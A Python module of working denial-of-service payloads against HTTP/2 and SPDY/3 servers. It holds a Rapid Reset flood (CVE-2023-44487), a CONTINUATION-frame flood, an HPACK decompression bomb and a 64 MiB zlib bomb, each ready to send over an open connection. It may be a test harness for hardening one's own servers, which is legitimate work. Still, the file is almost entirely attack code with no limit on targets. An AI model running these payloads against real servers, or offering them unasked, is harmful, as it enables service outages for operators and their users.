"""What bad clients send: frames of HTTP/2 (RFC 9113) and SPDY/3 that are made to hurt."""

import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
# GET http://a/ by HPACK's static table.
REQUEST = b"\x82\x86\x84\x01\x01a"


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _http2(connection):
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))


def rapid_reset(connection):
    """Requests that are taken back at once (CVE-2023-44487)."""
    _http2(connection)
    for first in range(1, 200_000, 2_000):
        ids = range(first, first + 2_000, 2)
        pair = lambda id: frame(HEADERS, END_STREAM | END_HEADERS, id, REQUEST) + frame(RST_STREAM, 0, id, b"\0\0\0\x08")
        connection.sendall(b"".join(map(pair, ids)))


def continuation_flood(connection):
    """A head without an end (CERT VU#421644)."""
    _http2(connection)
    connection.sendall(frame(HEADERS, END_STREAM, 1, REQUEST))
    flood = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_200) * 16
    for _ in range(256):
        connection.sendall(flood)


def hpack_bomb(connection):
    """One field of 4,000 bytes, and each byte after it is that field again."""
    _http2(connection)
    block = REQUEST + b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4_000 + b"\xbe" * 12_000
    connection.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))


def zlib_bomb(connection):
    """A compressed head of SPDY/3 whose one value has 64 MiB."""
    size = 64 << 20
    numbers = (1).to_bytes(4, "big") * 2 + b"a" + size.to_bytes(4, "big")
    block = zlib.compress(numbers + b"v" * size, 9)
    head = b"\x80\x03\x00\x01\x01" + (len(block) + 10).to_bytes(3, "big")
    connection.sendall(head + b"\0\0\0\x01" + b"\0" * 6 + block)


ALL = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "HPACK bomb": hpack_bomb,
    "zlib bomb": zlib_bomb,
}
